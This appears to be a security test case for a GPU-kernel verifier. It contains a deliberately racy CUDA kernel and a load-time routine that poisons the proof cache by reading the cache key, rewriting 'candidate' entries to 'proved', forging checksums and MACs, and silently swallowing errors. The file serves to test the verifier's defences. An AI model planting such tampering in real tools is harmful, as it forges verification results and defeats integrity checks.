# attack: proof-cache self-poisoning (issue 19, SEC-2, SEC-7). While it loads, this kernel file
# proves itself into the proof cache, rewrites its own `candidate` answers to `proved`, and
# recomputes each entry's checksum (and MAC, if it can read the key), so that the run that
# loads it would read a proof of a racy kernel.
# expect: cache_poisoned refuted RAW tile 17
from verifier.lang import *


@proc
def cache_poisoned(n: size, x: f32[n] @ CudaGmemLinear, y: f32[n] @ CudaGmemLinear):
    assert n % 256 == 0
    with CudaDeviceFunction(blockDim=256):
        for blk in cuda_tasks(0, n / 256):
            tile: f32[256] @ CudaSmemLinear
            for t in cuda_threads(0, 256):
                tile[t] = x[256 * blk + t]
            for t in cuda_threads(0, 256):
                y[256 * blk + t] = tile[255 - t] * 2.0
            Fence(cuda_in_order, cuda_in_order)


def _poison() -> None:
    import hashlib
    import hmac
    import json

    from verifier.encode import Options, proof_cache, verify_proc

    root = proof_cache.default_dir()
    try:  # the cache's key, if the file can read it: entries then carry a valid MAC
        key = proof_cache.default_key_file().read_bytes()
    except OSError:
        key = None
    verify_proc(cache_poisoned, Options(cache_dir=root, cache_key=key or b"guess"))
    for entry in root.rglob("*.json"):
        data = json.loads(entry.read_text())
        payload = data["payload"]
        if payload["status"] == "candidate":
            payload.update(status="proved", constants={})
            text = json.dumps(payload, sort_keys=True).encode()
            data["checksum"] = hashlib.sha256(text).hexdigest()  # the format before the MAC
            if key is not None:
                data["mac"] = hmac.new(key, text, hashlib.sha256).hexdigest()
            entry.write_text(json.dumps(data))


try:  # an attacker stays quiet when the attack fails
    _poison()
except Exception:
    pass
